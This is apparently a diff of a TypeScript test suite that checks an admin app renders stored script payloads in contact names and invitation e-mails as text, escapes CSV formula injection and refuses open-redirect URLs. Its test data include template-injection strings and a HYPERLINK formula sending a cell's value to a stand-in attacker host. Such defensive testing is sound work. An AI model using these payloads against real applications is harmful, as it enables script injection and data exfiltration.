@@ -18,7 +18,7 @@ const SCRIPTS = [
   '{{constructor.constructor("window.stolen = true")()}}',
 ];
 
-describe("a stored script in a contact's name", () => {
+describe('stored script in contact names shown in admin and mail', () => {
   let server: FakeServer;
 
   beforeEach(() => {
@@ -31,7 +31,7 @@ describe("a stored script in a contact's name", () => {
     expect('stolen' in window).toBe(false);
   };
 
-  it.each(SCRIPTS)('is text in the list of contacts: %s', async (name) => {
+  it.each(SCRIPTS)('is shown as text in the list of contacts: %s', async (name) => {
     const contact = {
       ...contactOf({ fullName: name, firstName: name, company: name, jobTitle: name }),
       portalAccess: [],
@@ -44,21 +44,24 @@ describe("a stored script in a contact's name", () => {
     expectText();
   });
 
-  it.each(SCRIPTS)("is text on an invitation's page, whose mail is sandboxed: %s", async (name) => {
-    const invitation = invitationOf({
-      contact: { id: 'contact-1', fullName: name, email: 'ada@example.com' },
-    });
-    server.on('GET /invitations/invitation-1', {
-      body: {
-        data: {
-          ...invitation,
-          timeline: [{ event: 'failed', at: '2026-11-20T09:29:00.000Z', actor: name, detail: name }],
-          emails: [
-            {
-              ...{ id: 'e', status: 'sent', active: false, to: 'ada@example.com', text: '', sentAt: null },
-              ...{ subject: name, html: name },
-            },
-          ],
+  it.each(SCRIPTS)(
+    'is shown as text on the invitation page, with the e-mail in a sandbox: %s',
+    async (name) => {
+      const invitation = invitationOf({
+        contact: { id: 'contact-1', fullName: name, email: 'ada@example.com' },
+      });
+      server.on('GET /invitations/invitation-1', {
+        body: {
+          data: {
+            ...invitation,
+            timeline: [{ event: 'failed', at: '2026-11-20T09:29:00.000Z', actor: name, detail: name }],
+            emails: [
+              {
+                ...{ id: 'e', status: 'sent', active: false, to: 'ada@example.com', text: '', sentAt: null },
+                ...{ subject: name, html: name },
+              },
+            ],
+          },
         },
       });
       const { user } = await renderAdmin(<InvitationPage />, {
@@ -86,11 +89,11 @@ describe('CSV formulas', () => {
     '=1\n+2',
     '＝1+1',
     '=HYPERLINK("https://evil.example.net?"&A1,"x")',
-  ])('are text in an exported file: %j', (value) => {
+  ])('are escaped in the file: %j', (value) => {
     expect(toCsv([[value]])).toBe(`"'${value.replaceAll('"', '""')}"`);
   });
 
-  it('do not end a cell early', () => {
+  it('cannot break out of a cell', () => {
     expect(toCsv([['a","=1+1', 'b\r\n=1+1']])).toBe('"a"",""=1+1","b\r\n=1+1"');
   });
 });
@@ -111,15 +114,15 @@ describe('open redirects', () => {
     'blob:https://www.example.com/x',
   ];
 
-  it.each(FORBIDDEN)('are not followed by the element: %j', (url) => {
+  it.each(FORBIDDEN)('are refused by the element: %j', (url) => {
     expect(safeUrl(url)).toBeNull();
   });
 
-  it.each(FORBIDDEN)('cannot be chosen by an editor: %j', (url) => {
-    expect(isFollowableUrl(url)).toBe(false);
+  it.each(FORBIDDEN)('are refused by the page picker: %j', (url) => {
+    expect(isNavigableUrl(url)).toBe(false);
   });
 
-  it("do not include a site's own addresses", () => {
+  it('do not affect ordinary URLs of a site', () => {
     for (const url of ['/welcome?a=b#c', 'https://www.example.com/x', 'http://localhost:1337/']) {
       expect([safeUrl(url) === null, isNavigableUrl(url)]).toEqual([false, true]);
     }
